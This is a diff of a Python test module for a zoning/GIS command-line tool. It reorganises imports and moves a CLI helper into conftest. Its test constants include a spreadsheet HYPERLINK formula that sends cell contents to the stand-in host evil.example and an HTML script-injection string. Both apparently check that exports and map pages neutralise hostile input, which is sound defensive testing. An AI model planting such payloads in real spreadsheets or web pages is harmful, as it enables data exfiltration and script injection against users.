@@ -25,17 +25,17 @@ import pandas as pd
 import pyogrio
 import pytest
 import shapely
-from typer.testing import CliRunner
 
 import zoning
 from zoning import cli
 from zoning.files import temporary_path
 from zoning.inputs.crs import tm3_crs
+from zoning.inputs.national_folder import manifest_path
 from zoning.inputs.reference import find_province
-from zoning.national.resume import manifest_path
 from zoning.outputs.xlsx import formula_like
 from zoning.siting.region import regional_study
 
+from .conftest import invoke
 from .national_fixtures import WGS84, border_points, outlines, province_folders, reserve_and_river, siting_folders
 from .test_maps import browser  # noqa: F401  (the real headless Chromium of the map tests)
 from .test_national_map import detail, open_page
@@ -46,14 +46,6 @@ TALLY: dict[str, list[str]] = {"error": [], "ok": [], "traceback": [], "wrong": 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
 SCRIPT = 'Sông </script><script>window.pwned=1</script> "x" <!--'
 REBUILD = ("chạy lại `zoning national build", "run `zoning national build --layers ROOT --out DIR` again")
-
-
-def invoke(args: list) -> object:
-    """Run the command line in process (the console language reset afterwards)."""
-    try:
-        return CliRunner().invoke(cli.app, [str(a) for a in args], catch_exceptions=True)
-    finally:
-        cli.LANG["console"] = "vi"
 
 
 def digests(root: Path) -> dict[str, str]:
